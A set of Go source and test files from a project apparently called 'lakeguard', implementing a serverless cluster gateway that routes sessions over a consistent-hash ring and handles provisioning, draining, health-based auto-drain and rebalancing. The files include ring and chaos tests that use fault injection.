	"lakeguard/internal/proto"
	"lakeguard/internal/telemetry"
	"lakeguard/internal/types"
)

// Provisioner creates a new serverless cluster on demand.
type Provisioner func(name string) *core.Server

// Config parametrizes the gateway.
type Config struct {
	// Provision creates backend clusters (required).
	Provision Provisioner
	// MaxSessionsPerCluster triggers scale-out when every cluster is at the
	// limit (default 8).
	MaxSessionsPerCluster int
	// MaxClusters bounds the fleet (0 = unlimited).
	MaxClusters int
	// Metrics, when non-nil, exports fleet gauges (gateway.clusters,
	// gateway.sessions).
	Metrics *telemetry.Registry
}

// Gateway routes Connect sessions across a fleet of clusters. It implements
// connect.Backend, so a single Connect endpoint serves the whole workspace.
type Gateway struct {
	cfg Config

	gClusters *telemetry.Gauge
	gSessions *telemetry.Gauge

	mu         sync.Mutex
	clusters   []*core.Server
	assignment map[string]*core.Server // sessionID -> cluster
	provisions int
}

// ErrFleetFull is returned when MaxClusters is reached and all are at
// capacity.
var ErrFleetFull = errors.New("gateway: no cluster capacity and fleet limit reached")

// New creates a gateway with one initial cluster.
func New(cfg Config) *Gateway {
	if cfg.MaxSessionsPerCluster <= 0 {
		cfg.MaxSessionsPerCluster = 8
	}
	g := &Gateway{
		cfg:        cfg,
		assignment: map[string]*core.Server{},
		gClusters:  cfg.Metrics.Gauge("gateway.clusters"),
		gSessions:  cfg.Metrics.Gauge("gateway.sessions"),
	}
	g.clusters = append(g.clusters, cfg.Provision("serverless-0"))
	g.provisions = 1
	g.gClusters.Set(1)
	return g
}

// route returns the cluster owning a session, assigning or provisioning as
// needed. Routing is load-based: the least-loaded cluster wins; when all are
// at the session cap, a new cluster is provisioned.
func (g *Gateway) route(sessionID string) (*core.Server, error) {
	g.mu.Lock()
	defer g.mu.Unlock()
	if srv, ok := g.assignment[sessionID]; ok {
		return srv, nil
	}
	var best *core.Server
	bestLoad := -1
	for _, c := range g.clusters {
		load := g.assignedTo(c)
		if load >= g.cfg.MaxSessionsPerCluster {
			continue
		}
		if best == nil || load < bestLoad {
			best, bestLoad = c, load
		}
	}
	if best == nil {
		if g.cfg.MaxClusters > 0 && len(g.clusters) >= g.cfg.MaxClusters {
			return nil, ErrFleetFull
		}
		best = g.cfg.Provision(fmt.Sprintf("serverless-%d", len(g.clusters)))
		g.clusters = append(g.clusters, best)
		g.provisions++
		g.gClusters.Set(int64(len(g.clusters)))
	}
	g.assignment[sessionID] = best
	g.gSessions.Set(int64(len(g.assignment)))
	return best, nil
}

// assignedTo counts sessions routed to a cluster. Caller holds g.mu.
func (g *Gateway) assignedTo(c *core.Server) int {
	n := 0
	for _, srv := range g.assignment {
		if srv == c {
			n++
		}
	}
	return n
}

// Execute implements connect.Backend. Routing runs under a
// "gateway.execute" span so a trace shows which cluster served the query.
func (g *Gateway) Execute(ctx context.Context, sessionID, user string, pl *proto.Plan) (*types.Schema, []*types.Batch, error) {
	ctx, sp := telemetry.StartSpan(ctx, "gateway.execute")
	srv, err := g.route(sessionID)
	if err != nil {
		sp.EndErr(err)
		return nil, nil, err
	}
	sp.SetAttr("cluster", srv.ClusterManager().Name())
	schema, batches, err := srv.Execute(ctx, sessionID, user, pl)
	sp.EndErr(err)
	return schema, batches, err
}

// ExecuteAnalyze routes an EXPLAIN ANALYZE execution to the session's
// cluster (it implements connect.AnalyzeExecutor).
func (g *Gateway) ExecuteAnalyze(ctx context.Context, sessionID, user string, pl *proto.Plan) (*types.Batch, string, error) {
	ctx, sp := telemetry.StartSpan(ctx, "gateway.execute")
	srv, err := g.route(sessionID)
	if err != nil {
		sp.EndErr(err)
		return nil, "", err
	}
	sp.SetAttr("cluster", srv.ClusterManager().Name())
	batch, text, err := srv.ExecuteAnalyze(ctx, sessionID, user, pl)
	sp.EndErr(err)
	return batch, text, err
}

// Analyze implements connect.Backend.
func (g *Gateway) Analyze(sessionID, user string, rel plan.Node) (*types.Schema, string, error) {
	srv, err := g.route(sessionID)
	if err != nil {
		return nil, "", err
	}
	return srv.Analyze(sessionID, user, rel)
}

// AnalyzeVerified implements connect.VerifiedExplainer, routing to the
// session's cluster so the annotated plan matches what would execute there.
func (g *Gateway) AnalyzeVerified(sessionID, user string, rel plan.Node) (*types.Schema, string, error) {
	srv, err := g.route(sessionID)
	if err != nil {
		return nil, "", err
	}
	return srv.AnalyzeVerified(sessionID, user, rel)
}

// CloseSession implements connect.Backend.
func (g *Gateway) CloseSession(sessionID string) {
	g.mu.Lock()
	srv := g.assignment[sessionID]
	delete(g.assignment, sessionID)
	g.gSessions.Set(int64(len(g.assignment)))
	g.mu.Unlock()
	if srv != nil {
		srv.CloseSession(sessionID)
	}
}

// Drain migrates every session off the given cluster (by index) onto the
// rest of the fleet and removes it — the session-migration mechanism behind
// seamless backend replacement (§6.2).
func (g *Gateway) Drain(clusterIdx int) (migrated int, err error) {
	g.mu.Lock()
	if clusterIdx < 0 || clusterIdx >= len(g.clusters) {
		g.mu.Unlock()
		return 0, fmt.Errorf("gateway: no cluster %d", clusterIdx)
	}
	victim := g.clusters[clusterIdx]
	g.clusters = append(g.clusters[:clusterIdx], g.clusters[clusterIdx+1:]...)
	var moving []string
	for sid, srv := range g.assignment {
		if srv == victim {
			moving = append(moving, sid)
			delete(g.assignment, sid)
		}
	}
	g.gClusters.Set(int64(len(g.clusters)))
	g.gSessions.Set(int64(len(g.assignment)))
	g.mu.Unlock()

	for _, sid := range moving {
		snap, ok := victim.ExportSession(sid)
		if !ok {
			continue
		}
		target, err := g.route(sid)
		if err != nil {
			return migrated, err
		}
		if err := target.ImportSession(sid, snap); err != nil {
			return migrated, err
		}
		victim.CloseSession(sid)
		migrated++
	}
	return migrated, nil
}

// Stats reports fleet state.
type Stats struct {
	Clusters   int
	Sessions   int
	Provisions int
	// PerCluster maps cluster name to assigned session count.
	PerCluster map[string]int
}

// FleetStats returns a snapshot.
func (g *Gateway) FleetStats() Stats {
	g.mu.Lock()
	defer g.mu.Unlock()
	st := Stats{Clusters: len(g.clusters), Sessions: len(g.assignment), Provisions: g.provisions, PerCluster: map[string]int{}}
	for _, c := range g.clusters {
		st.PerCluster[c.ClusterManager().Name()] = g.assignedTo(c)
	}
	return st
}

var _ connect.Backend = (*Gateway)(nil)
var _ connect.VerifiedExplainer = (*Gateway)(nil)
var _ connect.AnalyzeExecutor = (*Gateway)(nil)
