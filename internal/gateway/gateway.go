// Package gateway implements the Serverless Spark control plane (paper §6.2,
// Fig. 10): a workspace-wide Connect endpoint behind which a regional
// gateway tracks utilization, routes each session to a Standard-architecture
// cluster, provisions new clusters under load, and migrates sessions between
// backends without user-visible downtime.
//
// Routing is a consistent-hash ring with bounded load: a session homes to
// its ring owner unless that cluster is at MaxSessionsPerCluster, in which
// case the lookup walks clockwise to the next cluster with headroom. Growing
// the fleet triggers incremental rebalancing — only sessions whose ring
// owner is the new cluster migrate (~1/N of the fleet), everything else
// stays put. Unhealthy clusters (open circuit breakers in their sandbox
// dispatcher) are auto-drained by the health sweep, reusing the same
// session-migration path as a manual Drain.
package gateway

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"sync"

	"lakeguard/internal/connect"
	"lakeguard/internal/core"
	"lakeguard/internal/faults"
	"lakeguard/internal/plan"
	"lakeguard/internal/proto"
	"lakeguard/internal/telemetry"
	"lakeguard/internal/types"
)

// Provisioner creates a new serverless cluster on demand.
type Provisioner func(name string) *core.Server

// Config parametrizes the gateway.
type Config struct {
	// Provision creates backend clusters (required).
	Provision Provisioner
	// MaxSessionsPerCluster is the bounded-load cap: a cluster at the limit is
	// skipped by the ring lookup, and scale-out triggers when every cluster is
	// at the limit (default 8).
	MaxSessionsPerCluster int
	// MaxClusters bounds the fleet (0 = unlimited).
	MaxClusters int
	// Metrics, when non-nil, exports fleet gauges (gateway.clusters,
	// gateway.sessions) and counters (gateway.rebalances, gateway.autodrains).
	Metrics *telemetry.Registry
	// Faults carries the gateway.route injection site (optional).
	Faults *faults.Injector
}

type member struct {
	name string
	srv  *core.Server
}

// Gateway routes Connect sessions across a fleet of clusters. It implements
// connect.Backend, so a single Connect endpoint serves the whole workspace.
type Gateway struct {
	cfg Config

	gClusters   *telemetry.Gauge
	gSessions   *telemetry.Gauge
	cRebalances *telemetry.Counter
	cAutoDrains *telemetry.Counter

	mu         sync.Mutex
	ring       *ring
	clusters   []*member
	assignment map[string]*member // sessionID -> cluster
	provisions int
	rebalances int64
	autoDrains int64
}

// ErrFleetFull is returned when MaxClusters is reached and all are at
// capacity.
var ErrFleetFull = errors.New("gateway: no cluster capacity and fleet limit reached")

// New creates a gateway with one initial cluster.
func New(cfg Config) *Gateway {
	if cfg.MaxSessionsPerCluster <= 0 {
		cfg.MaxSessionsPerCluster = 8
	}
	g := &Gateway{
		cfg:         cfg,
		ring:        newRing(),
		assignment:  map[string]*member{},
		gClusters:   cfg.Metrics.Gauge("gateway.clusters"),
		gSessions:   cfg.Metrics.Gauge("gateway.sessions"),
		cRebalances: cfg.Metrics.Counter("gateway.rebalances"),
		cAutoDrains: cfg.Metrics.Counter("gateway.autodrains"),
	}
	g.provisionLocked()
	return g
}

// provisionLocked adds one cluster to the fleet and the ring. Caller holds
// g.mu (or is the constructor).
func (g *Gateway) provisionLocked() *member {
	name := fmt.Sprintf("serverless-%d", g.provisions)
	m := &member{name: name, srv: g.cfg.Provision(name)}
	g.clusters = append(g.clusters, m)
	g.ring.Add(name)
	g.provisions++
	g.gClusters.Set(int64(len(g.clusters)))
	return m
}

// loadLocked counts sessions assigned to the named cluster. Caller holds g.mu.
func (g *Gateway) loadLocked(name string) int {
	n := 0
	for _, m := range g.assignment {
		if m.name == name {
			n++
		}
	}
	return n
}

// byNameLocked resolves a cluster by name. Caller holds g.mu.
func (g *Gateway) byNameLocked(name string) *member {
	for _, m := range g.clusters {
		if m.name == name {
			return m
		}
	}
	return nil
}

// route returns the cluster owning a session, assigning or provisioning as
// needed. An assigned session is sticky; a new one homes to its
// consistent-hash owner, skipping clusters at the session cap (bounded
// load); when every cluster is full a new one is provisioned.
func (g *Gateway) route(ctx context.Context, sessionID string) (*core.Server, error) {
	ctx, sp := telemetry.StartSpan(ctx, "gateway.route")
	if err := g.cfg.Faults.CheckContext(ctx, faults.SiteGatewayRoute); err != nil {
		sp.EndErr(err)
		return nil, err
	}
	g.mu.Lock()
	if m, ok := g.assignment[sessionID]; ok {
		g.mu.Unlock()
		sp.SetAttr("cluster", m.name)
		sp.SetAttr("route", "sticky")
		sp.End()
		return m.srv, nil
	}
	name, ok := g.ring.Lookup(sessionID, func(n string) bool {
		return g.loadLocked(n) >= g.cfg.MaxSessionsPerCluster
	})
	var m *member
	if ok {
		m = g.byNameLocked(name)
	} else {
		if g.cfg.MaxClusters > 0 && len(g.clusters) >= g.cfg.MaxClusters {
			g.mu.Unlock()
			sp.EndErr(ErrFleetFull)
			return nil, ErrFleetFull
		}
		m = g.provisionLocked()
	}
	g.assignment[sessionID] = m
	g.gSessions.Set(int64(len(g.assignment)))
	g.mu.Unlock()
	sp.SetAttr("cluster", m.name)
	sp.SetAttr("route", "ring")
	sp.End()
	return m.srv, nil
}

// Execute implements connect.Backend. Routing runs under a
// "gateway.execute" span so a trace shows which cluster served the query.
func (g *Gateway) Execute(ctx context.Context, sessionID, user string, pl *proto.Plan) (*types.Schema, []*types.Batch, error) {
	ctx, sp := telemetry.StartSpan(ctx, "gateway.execute")
	srv, err := g.route(ctx, sessionID)
	if err != nil {
		sp.EndErr(err)
		return nil, nil, err
	}
	sp.SetAttr("cluster", srv.ClusterManager().Name())
	schema, batches, err := srv.Execute(ctx, sessionID, user, pl)
	sp.EndErr(err)
	return schema, batches, err
}

// ExecuteAnalyze routes an EXPLAIN ANALYZE execution to the session's
// cluster (it implements connect.AnalyzeExecutor).
func (g *Gateway) ExecuteAnalyze(ctx context.Context, sessionID, user string, pl *proto.Plan) (*types.Batch, string, error) {
	ctx, sp := telemetry.StartSpan(ctx, "gateway.execute")
	srv, err := g.route(ctx, sessionID)
	if err != nil {
		sp.EndErr(err)
		return nil, "", err
	}
	sp.SetAttr("cluster", srv.ClusterManager().Name())
	batch, text, err := srv.ExecuteAnalyze(ctx, sessionID, user, pl)
	sp.EndErr(err)
	return batch, text, err
}

// Analyze implements connect.Backend.
func (g *Gateway) Analyze(sessionID, user string, rel plan.Node) (*types.Schema, string, error) {
	srv, err := g.route(context.Background(), sessionID)
	if err != nil {
		return nil, "", err
	}
	return srv.Analyze(sessionID, user, rel)
}

// AnalyzeVerified implements connect.VerifiedExplainer, routing to the
// session's cluster so the annotated plan matches what would execute there.
func (g *Gateway) AnalyzeVerified(sessionID, user string, rel plan.Node) (*types.Schema, string, error) {
	srv, err := g.route(context.Background(), sessionID)
	if err != nil {
		return nil, "", err
	}
	return srv.AnalyzeVerified(sessionID, user, rel)
}

// CloseSession implements connect.Backend.
func (g *Gateway) CloseSession(sessionID string) {
	g.mu.Lock()
	m := g.assignment[sessionID]
	delete(g.assignment, sessionID)
	g.gSessions.Set(int64(len(g.assignment)))
	g.mu.Unlock()
	if m != nil {
		m.srv.CloseSession(sessionID)
	}
}

// migrateLocked moves one session's state from one cluster to another. When
// both clusters share a session store the state never moves — the victim
// only detaches its cluster-local resources (warm sandboxes); otherwise the
// state is exported, imported, and closed on the victim. Caller holds g.mu.
func (g *Gateway) migrateLocked(sessionID string, from, to *member) error {
	if from.srv.SessionStore() == to.srv.SessionStore() {
		from.srv.DetachSession(sessionID)
		return nil
	}
	snap, ok := from.srv.ExportSession(sessionID)
	if !ok {
		return nil
	}
	if err := to.srv.ImportSession(sessionID, snap); err != nil {
		return err
	}
	from.srv.CloseSession(sessionID)
	return nil
}

// drainLocked migrates every session off victim onto the rest of the fleet
// (respecting MaxSessionsPerCluster, provisioning when the rest is full) and
// removes it from the fleet. Caller holds g.mu.
func (g *Gateway) drainLocked(victim *member) (migrated int, err error) {
	for i, m := range g.clusters {
		if m == victim {
			g.clusters = append(g.clusters[:i], g.clusters[i+1:]...)
			break
		}
	}
	g.ring.Remove(victim.name)
	g.gClusters.Set(int64(len(g.clusters)))

	var moving []string
	for sid, m := range g.assignment {
		if m == victim {
			moving = append(moving, sid)
		}
	}
	sort.Strings(moving)

	for _, sid := range moving {
		name, ok := g.ring.Lookup(sid, func(n string) bool {
			return g.loadLocked(n) >= g.cfg.MaxSessionsPerCluster
		})
		var target *member
		if ok {
			target = g.byNameLocked(name)
		} else {
			if g.cfg.MaxClusters > 0 && len(g.clusters) >= g.cfg.MaxClusters {
				return migrated, ErrFleetFull
			}
			target = g.provisionLocked()
		}
		if err := g.migrateLocked(sid, victim, target); err != nil {
			return migrated, err
		}
		g.assignment[sid] = target
		migrated++
	}
	return migrated, nil
}

// Drain migrates every session off the given cluster (by index) onto the
// rest of the fleet and removes it — the session-migration mechanism behind
// seamless backend replacement (§6.2). Re-routing respects
// MaxSessionsPerCluster: migrated sessions spread across clusters with
// headroom, provisioning a new cluster when the rest of the fleet is full.
func (g *Gateway) Drain(clusterIdx int) (migrated int, err error) {
	g.mu.Lock()
	defer g.mu.Unlock()
	if clusterIdx < 0 || clusterIdx >= len(g.clusters) {
		return 0, fmt.Errorf("gateway: no cluster %d", clusterIdx)
	}
	return g.drainLocked(g.clusters[clusterIdx])
}

// CheckHealth sweeps the fleet and auto-drains every cluster whose sandbox
// dispatcher reports an open circuit breaker — the PR-2 signal that a trust
// domain is crash-looping there. Sessions migrate to healthy clusters (or a
// fresh one) with no client-visible state loss. Returns the number of
// clusters drained.
func (g *Gateway) CheckHealth() (drained int, err error) {
	g.mu.Lock()
	defer g.mu.Unlock()
	for {
		var sick *member
		for _, m := range g.clusters {
			if m.srv.Dispatcher().OpenBreakers() > 0 {
				sick = m
				break
			}
		}
		if sick == nil {
			return drained, nil
		}
		if _, err := g.drainLocked(sick); err != nil {
			return drained, err
		}
		drained++
		g.autoDrains++
		g.cAutoDrains.Inc()
	}
}

// Grow provisions one cluster and incrementally rebalances: only sessions
// whose ring owner is now the new cluster migrate. Returns the new cluster's
// name and how many sessions moved.
func (g *Gateway) Grow() (name string, moved int, err error) {
	g.mu.Lock()
	defer g.mu.Unlock()
	if g.cfg.MaxClusters > 0 && len(g.clusters) >= g.cfg.MaxClusters {
		return "", 0, ErrFleetFull
	}
	m := g.provisionLocked()
	return m.name, g.rebalanceLocked(), nil
}

// ShrinkOne drains the least-loaded cluster if the rest of the fleet has
// headroom for its sessions. Returns ("", 0, nil) when the fleet cannot
// shrink (single cluster, or no headroom).
func (g *Gateway) ShrinkOne() (name string, migrated int, err error) {
	g.mu.Lock()
	defer g.mu.Unlock()
	if len(g.clusters) <= 1 {
		return "", 0, nil
	}
	var victim *member
	victimLoad := 0
	for _, m := range g.clusters {
		load := g.loadLocked(m.name)
		if victim == nil || load < victimLoad {
			victim, victimLoad = m, load
		}
	}
	headroom := 0
	for _, m := range g.clusters {
		if m != victim {
			headroom += g.cfg.MaxSessionsPerCluster - g.loadLocked(m.name)
		}
	}
	if headroom < victimLoad {
		return "", 0, nil
	}
	migrated, err = g.drainLocked(victim)
	return victim.name, migrated, err
}

// rebalanceLocked migrates every session whose bounded-load ring owner
// differs from its current cluster — after a Grow this is ~1/N of sessions,
// the consistent-hashing minimum. Caller holds g.mu.
func (g *Gateway) rebalanceLocked() int {
	sids := make([]string, 0, len(g.assignment))
	for sid := range g.assignment {
		sids = append(sids, sid)
	}
	sort.Strings(sids)
	moved := 0
	for _, sid := range sids {
		cur := g.assignment[sid]
		name, ok := g.ring.Lookup(sid, func(n string) bool {
			return n != cur.name && g.loadLocked(n) >= g.cfg.MaxSessionsPerCluster
		})
		if !ok || name == cur.name {
			continue
		}
		target := g.byNameLocked(name)
		if err := g.migrateLocked(sid, cur, target); err != nil {
			continue
		}
		g.assignment[sid] = target
		moved++
	}
	if moved > 0 {
		g.rebalances += int64(moved)
		g.cRebalances.Add(int64(moved))
	}
	return moved
}

// Stats reports fleet state.
type Stats struct {
	Clusters   int
	Sessions   int
	Provisions int
	// Rebalances counts sessions migrated by incremental rebalancing.
	Rebalances int64
	// AutoDrains counts clusters drained by the health sweep.
	AutoDrains int64
	// PerCluster maps cluster name to assigned session count.
	PerCluster map[string]int
}

// FleetStats returns a snapshot.
func (g *Gateway) FleetStats() Stats {
	g.mu.Lock()
	defer g.mu.Unlock()
	st := Stats{
		Clusters: len(g.clusters), Sessions: len(g.assignment),
		Provisions: g.provisions, Rebalances: g.rebalances, AutoDrains: g.autoDrains,
		PerCluster: map[string]int{},
	}
	for _, m := range g.clusters {
		st.PerCluster[m.name] = g.loadLocked(m.name)
	}
	return st
}

var _ connect.Backend = (*Gateway)(nil)
var _ connect.VerifiedExplainer = (*Gateway)(nil)
var _ connect.AnalyzeExecutor = (*Gateway)(nil)
