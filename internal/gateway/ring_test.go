package gateway

import (
	"fmt"
	"testing"
)

func TestRingDistribution(t *testing.T) {
	r := newRing()
	for i := 0; i < 4; i++ {
		r.Add(fmt.Sprintf("c%d", i))
	}
	counts := map[string]int{}
	const keys = 4000
	for i := 0; i < keys; i++ {
		name, ok := r.Lookup(fmt.Sprintf("session-%d", i), nil)
		if !ok {
			t.Fatal("lookup failed on non-empty ring")
		}
		counts[name]++
	}
	for name, n := range counts {
		frac := float64(n) / keys
		if frac < 0.10 || frac > 0.45 {
			t.Errorf("member %s owns %.1f%% of keys (want roughly balanced)", name, 100*frac)
		}
	}
}

// TestRingMinimalDisruption is the consistent-hashing property: adding one
// member to an N-member ring reassigns roughly 1/(N+1) of keys and never
// moves a key between two pre-existing members.
func TestRingMinimalDisruption(t *testing.T) {
	r := newRing()
	for i := 0; i < 4; i++ {
		r.Add(fmt.Sprintf("c%d", i))
	}
	const keys = 2000
	before := map[string]string{}
	for i := 0; i < keys; i++ {
		k := fmt.Sprintf("session-%d", i)
		before[k], _ = r.Lookup(k, nil)
	}
	r.Add("c4")
	moved := 0
	for k, owner := range before {
		now, _ := r.Lookup(k, nil)
		if now == owner {
			continue
		}
		if now != "c4" {
			t.Fatalf("key %s moved between pre-existing members %s -> %s", k, owner, now)
		}
		moved++
	}
	frac := float64(moved) / keys
	if frac < 0.05 || frac > 0.40 {
		t.Errorf("adding 5th member moved %.1f%% of keys (want ~20%%)", 100*frac)
	}
}

func TestRingBoundedLoadSkipsFullMembers(t *testing.T) {
	r := newRing()
	r.Add("a")
	r.Add("b")
	name, ok := r.Lookup("some-key", func(n string) bool { return n == "a" })
	if !ok || name != "b" {
		t.Fatalf("lookup = %q,%v; want b (a is full)", name, ok)
	}
	if _, ok := r.Lookup("some-key", func(string) bool { return true }); ok {
		t.Fatal("lookup succeeded with every member full")
	}
}

func TestRingRemove(t *testing.T) {
	r := newRing()
	r.Add("a")
	r.Add("b")
	r.Remove("a")
	if r.Len() != 1 {
		t.Fatalf("len = %d, want 1", r.Len())
	}
	for i := 0; i < 100; i++ {
		name, ok := r.Lookup(fmt.Sprintf("k%d", i), nil)
		if !ok || name != "b" {
			t.Fatalf("key k%d -> %q,%v after removing a", i, name, ok)
		}
	}
}
