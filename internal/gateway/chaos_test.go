package gateway

import (
	"fmt"
	"net/http/httptest"
	"testing"
	"time"

	"lakeguard/internal/catalog"
	"lakeguard/internal/connect"
	"lakeguard/internal/core"
	"lakeguard/internal/faults"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/session"
	"lakeguard/internal/storage"
	"lakeguard/internal/types"
)

// seedSales creates and populates the demo table chaos queries run over.
func seedSales(t *testing.T, c *connect.Client) {
	t.Helper()
	for _, stmt := range []string{
		"CREATE TABLE sales (amount DOUBLE, seller STRING)",
		"INSERT INTO sales VALUES (100, 'ann'), (200, 'ben'), (50, 'ann'), (75, 'cat'), (300, 'ben'), (25, 'dan')",
	} {
		if _, err := c.ExecSQL(stmt); err != nil {
			t.Fatalf("%s: %v", stmt, err)
		}
	}
}

// TestDrainRespectsClusterCap is the regression test for drain re-routing:
// with the rest of the fleet already at MaxSessionsPerCluster, draining a
// cluster must spread its sessions by provisioning, never pile them onto the
// first non-drained cluster past the cap.
func TestDrainRespectsClusterCap(t *testing.T) {
	g, _, ts := newFleet(t, 2, 0)
	for i := 0; i < 6; i++ {
		c := connect.Dial(ts.URL, "tok")
		if _, err := c.Sql("SELECT 1 AS one").Collect(); err != nil {
			t.Fatal(err)
		}
	}
	before := g.FleetStats()
	if before.Clusters != 3 || before.Sessions != 6 {
		t.Fatalf("setup fleet = %+v", before)
	}
	migrated, err := g.Drain(0)
	if err != nil {
		t.Fatal(err)
	}
	if migrated != 2 {
		t.Fatalf("migrated = %d, want 2", migrated)
	}
	after := g.FleetStats()
	if after.Sessions != 6 {
		t.Fatalf("lost sessions: %+v", after)
	}
	for name, n := range after.PerCluster {
		if n > 2 {
			t.Errorf("cluster %s holds %d sessions, cap is 2 (drain ignored the cap)", name, n)
		}
	}
}

// TestGrowRebalancesIncrementally checks the consistent-hashing contract at
// the fleet level: growing the fleet moves only sessions whose ring owner is
// the new cluster, and every moved session keeps its state.
func TestGrowRebalancesIncrementally(t *testing.T) {
	g, _, ts := newFleet(t, 64, 0)
	clients := make([]*connect.Client, 12)
	for i := range clients {
		clients[i] = connect.Dial(ts.URL, "tok")
		if err := clients[i].Sql(fmt.Sprintf("SELECT %d AS mine", i)).CreateTempView("mine"); err != nil {
			t.Fatal(err)
		}
	}
	before := g.FleetStats()
	if before.Clusters != 1 {
		t.Fatalf("want single cluster before grow, got %+v", before)
	}
	name, moved, err := g.Grow()
	if err != nil {
		t.Fatal(err)
	}
	if name == "" {
		t.Fatal("no cluster added")
	}
	after := g.FleetStats()
	if after.Sessions != 12 {
		t.Fatalf("lost sessions: %+v", after)
	}
	if moved == 0 || moved == 12 {
		t.Fatalf("moved %d of 12 sessions; incremental rebalance should move ~half here", moved)
	}
	if after.Rebalances != int64(moved) {
		t.Fatalf("Rebalances = %d, want %d", after.Rebalances, moved)
	}
	// No client-visible state loss: every session still sees its temp view
	// with its original value.
	for i, c := range clients {
		b, err := c.Table("mine").Collect()
		if err != nil {
			t.Fatalf("client %d lost state after rebalance: %v", i, err)
		}
		if b.NumRows() != 1 || b.Cols[0].Int64(0) != int64(i) {
			t.Fatalf("client %d sees wrong state after rebalance:\n%s", i, b.String())
		}
	}
}

func TestRouteFaultSite(t *testing.T) {
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(admin)
	inj := faults.New(1).Add(faults.Rule{Site: faults.SiteGatewayRoute, Kind: faults.KindError, Times: 1})
	g := New(Config{
		Provision: func(name string) *core.Server {
			return core.NewServer(core.Config{Name: name, Catalog: cat, Compute: catalog.ComputeServerless})
		},
		Faults: inj,
	})
	ts := httptest.NewServer(connect.NewService(g, connect.TokenMap{"tok": admin}).Handler())
	defer ts.Close()

	c := connect.Dial(ts.URL, "tok")
	if _, err := c.Sql("SELECT 1").Collect(); err == nil {
		t.Fatal("expected injected routing error")
	}
	if inj.Fired(faults.SiteGatewayRoute) != 1 {
		t.Fatalf("route fault fired %d times, want 1", inj.Fired(faults.SiteGatewayRoute))
	}
	// The fault was transient: the same client works on the next attempt.
	if _, err := c.Sql("SELECT 1").Collect(); err != nil {
		t.Fatalf("post-fault query: %v", err)
	}
}

// TestAutoDrainCrashedCluster extends TestDrainMigratesSessions into the
// chaos suite: a cluster whose sandboxes crash-loop trips its circuit
// breaker, the health sweep auto-drains it, and every session resumes on a
// healthy cluster with no client-visible state loss — byte-identical query
// results at parallelism 1, 2, and 8.
func TestAutoDrainCrashedCluster(t *testing.T) {
	var baseline string
	for _, parallelism := range []int{1, 2, 8} {
		t.Run(fmt.Sprintf("parallelism-%d", parallelism), func(t *testing.T) {
			cat := catalog.New(storage.NewStore(), nil)
			cat.AddAdmin(admin)
			// Only the first cluster is faulty: its interpreter crashes every
			// crossing, tripping the breaker immediately (threshold 1).
			injectors := map[string]*faults.Injector{
				"serverless-0": faults.New(1).Add(faults.Rule{Site: faults.SiteSandboxInterpret, Kind: faults.KindCrash}),
			}
			g := New(Config{
				Provision: func(name string) *core.Server {
					return core.NewServer(core.Config{
						Name: name, Catalog: cat, Compute: catalog.ComputeServerless,
						Parallelism: parallelism,
						Faults:      injectors[name],
						Supervisor:  sandbox.SupervisorConfig{CircuitThreshold: 1, CircuitCooldown: time.Hour},
					})
				},
				MaxSessionsPerCluster: 4,
			})
			ts := httptest.NewServer(connect.NewService(g, connect.TokenMap{"tok": admin}).Handler())
			defer ts.Close()

			c := connect.Dial(ts.URL, "tok")
			seedSales(t, c)
			if err := c.RegisterFunction("wobbly",
				[]types.Field{{Name: "usd", Kind: types.KindFloat64}},
				types.KindFloat64, "return usd * 2"); err != nil {
				t.Fatal(err)
			}
			if err := c.Sql("SELECT amount FROM sales").CreateTempView("mine"); err != nil {
				t.Fatal(err)
			}

			const query = "SELECT wobbly(amount) AS w FROM sales"
			if _, err := c.Sql(query).Collect(); err == nil {
				t.Fatal("expected sandbox crash on the faulty cluster")
			}

			drained, err := g.CheckHealth()
			if err != nil {
				t.Fatal(err)
			}
			if drained != 1 {
				t.Fatalf("auto-drained %d clusters, want 1", drained)
			}
			st := g.FleetStats()
			if st.Sessions != 1 {
				t.Fatalf("lost sessions: %+v", st)
			}
			if st.AutoDrains != 1 {
				t.Fatalf("AutoDrains = %d, want 1", st.AutoDrains)
			}
			if _, ok := st.PerCluster["serverless-0"]; ok {
				t.Fatal("crashed cluster still in fleet")
			}

			// The session resumed on a healthy cluster: the ephemeral UDF and
			// temp view both survived, and the query now succeeds.
			b, err := c.Sql(query).Collect()
			if err != nil {
				t.Fatalf("query after auto-drain: %v", err)
			}
			if b.NumRows() != 6 {
				t.Fatalf("rows = %d, want 6:\n%s", b.NumRows(), b.String())
			}
			if _, err := c.Table("mine").Collect(); err != nil {
				t.Fatalf("temp view lost in migration: %v", err)
			}
			// Byte-identical across parallelism levels.
			if baseline == "" {
				baseline = b.String()
			} else if b.String() != baseline {
				t.Fatalf("results differ at parallelism %d:\n%s\nvs baseline:\n%s", parallelism, b.String(), baseline)
			}
		})
	}
}

// TestSharedStoreDrainDetaches: when every cluster shares one session store,
// draining migrates sessions by rebinding cluster-local resources — state
// never moves, and it survives verbatim.
func TestSharedStoreDrainDetaches(t *testing.T) {
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(admin)
	shared := session.NewStore()
	g := New(Config{
		Provision: func(name string) *core.Server {
			return core.NewServer(core.Config{
				Name: name, Catalog: cat, Compute: catalog.ComputeServerless, Sessions: shared,
			})
		},
		MaxSessionsPerCluster: 1,
	})
	ts := httptest.NewServer(connect.NewService(g, connect.TokenMap{"tok": admin}).Handler())
	defer ts.Close()

	c1 := connect.Dial(ts.URL, "tok")
	if err := c1.Sql("SELECT 41 AS a").CreateTempView("v1"); err != nil {
		t.Fatal(err)
	}
	c2 := connect.Dial(ts.URL, "tok")
	if err := c2.Sql("SELECT 42 AS a").CreateTempView("v2"); err != nil {
		t.Fatal(err)
	}
	if g.FleetStats().Clusters != 2 {
		t.Fatalf("fleet = %+v", g.FleetStats())
	}
	migrated, err := g.Drain(0)
	if err != nil {
		t.Fatal(err)
	}
	if migrated != 1 {
		t.Fatalf("migrated = %d, want 1", migrated)
	}
	for i, pair := range []struct {
		c    *connect.Client
		view string
		want int64
	}{{c1, "v1", 41}, {c2, "v2", 42}} {
		b, err := pair.c.Table(pair.view).Collect()
		if err != nil {
			t.Fatalf("client %d lost state: %v", i, err)
		}
		if b.Cols[0].Int64(0) != pair.want {
			t.Fatalf("client %d sees %d, want %d", i, b.Cols[0].Int64(0), pair.want)
		}
	}
	// One shared store, two sessions — nothing was copied or dropped.
	if shared.Len() != 2 {
		t.Fatalf("shared store sessions = %d, want 2", shared.Len())
	}
}
