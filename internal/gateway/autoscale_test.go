package gateway

import (
	"testing"

	"lakeguard/internal/connect"
)

